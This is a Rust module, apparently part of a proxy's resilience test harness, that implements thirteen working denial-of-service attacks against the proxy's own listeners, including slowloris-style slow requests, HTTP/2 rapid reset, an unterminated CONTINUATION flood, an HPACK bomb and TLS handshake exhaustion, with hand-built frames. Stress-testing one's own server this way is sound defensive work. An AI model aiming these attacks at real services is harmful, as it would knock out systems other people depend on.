//! Bytes that attackers send: each attack is made by many connections, again and again.

use std::{future::Future, net::SocketAddr, pin::Pin, sync::Arc, time::Duration};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    time::sleep,
};

/// The proxy as attackers see it.
pub(super) struct Target {
    pub(super) web: SocketAddr,
    pub(super) secure: SocketAddr,
    /// A ClientHello: a handshake costs the attacker nothing.
    pub(super) hello: Vec<u8>,
}

/// An attack, made by so many connections at once.
#[derive(Clone, Copy)]
pub(super) struct Attack {
    pub(super) name: &'static str,
    pub(super) connections: usize,
    /// One connection, from its begin to its end.
    pub(super) connection: fn(Arc<Target>) -> Connection,
}

pub(super) type Connection = Pin<Box<dyn Future<Output = ()> + Send>>;

const fn attack(
    name: &'static str,
    connections: usize,
    connection: fn(Arc<Target>) -> Connection,
) -> Attack {
    Attack {
        name,
        connections,
        connection,
    }
}

pub(super) const ATTACKS: [Attack; 13] = [
    attack("idle connections", IDLE, |to| Box::pin(idle(to))),
    attack("slow heads", 400, |to| {
        slowly(to, b"GET / HTTP/1.1\r\nhost: a\r\n", b"x: y\r\n")
    }),
    attack("slow bodies", 100, |to| slowly(to, UPLOAD, b"x")),
    attack("stalled upload heads", 200, |to| slowly(to, UPLOAD, b"")),
    attack("slow readers", 100, |to| {
        slowly(to, b"GET /large HTTP/1.1\r\nhost: a\r\n\r\n", b"")
    }),
    attack("one-octet chunks", 8, |to| {
        let head = b"POST / HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\n\r\n";
        quickly(to, head.to_vec(), b"1\r\nx\r\n".to_vec())
    }),
    attack("unread pipelines", 8, |to| {
        let request = b"GET /large HTTP/1.1\r\nhost: a\r\n\r\n";
        quickly(to, Vec::new(), request.to_vec())
    }),
    attack("countless headers", 16, |to| {
        let lines = b"a: b\r\n".repeat(100);
        quickly(to, b"GET / HTTP/1.1\r\nhost: a\r\n".to_vec(), lines)
    }),
    attack("countless headers, HTTP/2", 16, |to| {
        let fields: Vec<u8> = (0..2000).flat_map(|_| *b"\x00\x01a\x01b").collect();
        quickly(to, begun(), headers(0x5, 1, &[HEAD, &fields].concat()))
    }),
    attack("rapid reset", 8, |to| Box::pin(resets(to))),
    attack("CONTINUATION without end", 16, |to| {
        let mut first = begun();
        first.extend(headers(0x1, 1, HEAD));
        // A literal field without a place in the table, in a block that never ends.
        quickly(to, first, frame(9, 0, 1, b"\x00\x01a\x01b"))
    }),
    attack("HPACK bomb", 16, |to| Box::pin(bomb(to))),
    attack("TLS handshakes", 16, |to| Box::pin(handshakes(to))),
];

/// Connects, sends nothing, and stays.
async fn idle(to: Arc<Target>) {
    let Ok(mut stream) = TcpStream::connect(to.web).await else {
        return sleep(PAUSE).await;
    };
    let _ = stream.read(&mut [0]).await;
}

/// Sends the first bytes at once and then the rest one by one, and reads nothing.
fn slowly(to: Arc<Target>, first: &'static [u8], then: &'static [u8]) -> Connection {
    Box::pin(async move {
        let Ok(mut stream) = TcpStream::connect(to.web).await else {
            return sleep(PAUSE).await;
        };
        if stream.write_all(first).await.is_err() {
            return;
        }
        for _ in 0..20 {
            sleep(PAUSE).await;
            if stream.write_all(then).await.is_err() {
                return;
            }
        }
    })
}

/// Sends one after the other, and reads nothing.
fn quickly(to: Arc<Target>, first: Vec<u8>, then: Vec<u8>) -> Connection {
    Box::pin(async move {
        let Ok(mut stream) = TcpStream::connect(to.web).await else {
            return sleep(PAUSE).await;
        };
        if stream.write_all(&first).await.is_err() {
            return;
        }
        for _ in 0..2000 {
            if stream.write_all(&then).await.is_err() {
                return;
            }
            sleep(Duration::from_millis(1)).await;
        }
    })
}

/// Opens HTTP/2 streams and resets each at once.
async fn resets(to: Arc<Target>) {
    let Some(mut writer) = speak_http2(&to).await else {
        return;
    };
    for stream in (1..4001).step_by(2) {
        let mut pair = headers(0x5, stream, HEAD);
        pair.extend(frame(3, 0, stream, &[0, 0, 0, 8]));
        if writer.write_all(&pair).await.is_err() {
            return;
        }
    }
}

/// Puts a field of nearly 4 KiB into the table, and names it in one byte, a hundred times a block.
async fn bomb(to: Arc<Target>) {
    let Some(mut writer) = speak_http2(&to).await else {
        return;
    };
    let mut field = b"\x40\x01a\x7f".to_vec();
    // 4000 as an integer of seven bits (RFC 7541 section 5.1).
    let rest: usize = 4000 - 127;
    let [low, high] = [rest % 128 + 128, rest / 128].map(|it| u8::try_from(it).unwrap());
    field.extend([low, high]);
    field.extend([b'x'; 4000]);
    let _ = writer
        .write_all(&headers(0x5, 1, &[HEAD, &field].concat()))
        .await;
    let named = vec![0xbe; 100];
    for stream in (3..2001).step_by(2) {
        let block = headers(0x5, stream, &[HEAD, &named].concat());
        if writer.write_all(&block).await.is_err() {
            return;
        }
        sleep(Duration::from_millis(1)).await;
    }
}

/// Begins a handshake, reads the answer that the proxy has paid for, and leaves.
async fn handshakes(to: Arc<Target>) {
    let Ok(mut stream) = TcpStream::connect(to.secure).await else {
        return sleep(PAUSE).await;
    };
    if stream.write_all(&to.hello).await.is_ok() {
        let _ = stream.read(&mut [0; 4096]).await;
    }
}

/// Connects, and reads and drops whatever comes.
async fn speak_http2(to: &Target) -> Option<tokio::net::tcp::OwnedWriteHalf> {
    let Ok(stream) = TcpStream::connect(to.web).await else {
        sleep(PAUSE).await;
        return None;
    };
    let (mut reader, mut writer) = stream.into_split();
    tokio::spawn(async move {
        let mut taken = [0; 4096];
        while matches!(reader.read(&mut taken).await, Ok(1..)) {}
    });
    writer.write_all(&begun()).await.ok()?;
    Some(writer)
}

/// The preface, and settings that change nothing.
fn begun() -> Vec<u8> {
    let mut begun = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    begun.extend(frame(4, 0, 0, &[]));
    begun
}

fn headers(flags: u8, stream: u32, block: &[u8]) -> Vec<u8> {
    frame(1, flags, stream, block)
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// GET, http, `/` and the authority "a", by the static table.
const HEAD: &[u8] = &[0x82, 0x86, 0x84, 0x41, 0x01, b'a'];
const UPLOAD: &[u8] = b"POST / HTTP/1.1\r\nhost: a\r\ncontent-length: 1000000\r\n\r\n";
/// Number of idle connections; fewer where the machine allows fewer descriptors.
pub(super) const IDLE: usize = 10_000;
pub(super) const PAUSE: Duration = Duration::from_millis(200);
